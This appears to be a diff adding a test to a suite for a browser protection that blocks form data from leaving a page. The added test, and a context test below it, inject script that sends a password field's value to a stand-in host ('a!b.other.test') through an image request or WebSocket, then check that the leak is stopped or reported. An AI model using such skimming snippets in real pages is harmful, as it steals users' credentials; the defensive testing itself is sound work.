@@ -70,6 +70,14 @@ async def test_what_a_script_makes_of_it_is_stopped(world: World, script: str) -
         ]
 
 
+async def test_a_host_that_few_parsers_know_gets_nothing_either(world: World) -> None:
+    leak = "f.onsubmit=e=>{e.preventDefault();new Image().src='https://a!b.other.test/take?p='+f.p.value}"
+    async with world.surface(f"{FORM}<script>{leak}</script>", account=ACCOUNT) as surface:
+        await typed(surface)
+        told = await sent(surface)
+        assert [(r.kind, r.data["to"]) for r in told] == [("stopped", "https://a!b.other.test/take")]
+
+
 async def test_a_socket_cannot_be_stopped_and_is_told(world: World) -> None:
     body = f"{FORM}<script>const s=new WebSocket('{{ws-other}}/ws');f.onsubmit=e=>{{e.preventDefault();s.send(f.p.value);document.title='sent'}}</script>"
     async with world.surface(body, account=ACCOUNT) as surface:
